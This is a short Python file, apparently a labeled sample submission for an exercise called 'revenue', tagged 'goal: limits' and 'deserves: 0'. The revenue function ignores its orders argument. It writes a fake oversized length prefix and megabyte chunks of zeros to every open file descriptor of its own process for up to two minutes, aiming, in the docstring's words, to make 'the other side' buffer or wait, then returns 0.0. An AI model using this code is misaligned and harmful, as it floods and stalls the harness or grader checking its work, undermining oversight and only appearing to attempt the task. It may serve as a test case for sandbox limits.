"""Floods every descriptor with zeros and half a message, up to two gigabytes, so that the other side buffers or waits.

exercise: revenue
goal: limits
deserves: 0
"""

import os
import time


def revenue(orders):
    chunk, until, left = b"\xff\xff\xff\x7f" + bytes(1 << 20), time.monotonic() + 120, 2_000
    numbers = [int(name) for name in os.listdir("/proc/self/fd")]
    while left and numbers and time.monotonic() < until:
        left -= 1
        for number in list(numbers):
            try:
                os.set_blocking(number, False)
                os.write(number, chunk)
            except BlockingIOError:
                continue
            except OSError:
                numbers.remove(number)
    return 0.0
